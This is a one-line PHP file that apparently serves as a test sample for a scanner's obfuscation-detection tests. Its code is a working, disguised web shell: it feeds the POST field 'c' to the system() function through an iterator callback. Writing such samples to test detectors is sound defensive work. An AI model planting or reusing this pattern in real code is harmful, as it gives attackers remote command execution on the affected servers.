<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
foreach (new CallbackFilterIterator(new ArrayIterator((array) $_POST['c']), 'system') as $x) {}
